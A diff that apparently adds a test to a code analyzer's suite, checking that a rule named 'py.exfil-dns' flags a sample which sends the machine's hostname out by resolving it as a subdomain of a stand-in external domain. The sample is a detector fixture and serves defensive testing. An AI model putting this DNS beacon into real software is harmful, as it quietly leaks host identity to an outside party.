@@ -196,3 +196,20 @@ def test_a_narrowing_migration_is_cached_with_the_earlier_migrations_it_is_judge
     depends = imported_files(str(second.resolve()), second.read_bytes(), modules)
     assert str((folder / "0001_initial.py").resolve()) in depends
     assert str((folder / "0003_widen_fields.py").resolve()) not in depends
+
+
+BEACON = '''
+import socket
+
+def beacon(label):
+    return socket.gethostbyname(label + ".stats.example-dns.net")
+
+def main():
+    beacon(socket.gethostname())
+    beacon("canary")
+'''
+
+
+def test_the_machines_identity_handed_to_a_helper_that_builds_a_dns_name_is_reported_at_the_call() -> None:
+    assert [op.detail("source") for op in at(BEACON, 8, "py.exfil-dns")] == ["machine identity"]
+    assert at(BEACON, 9) == []
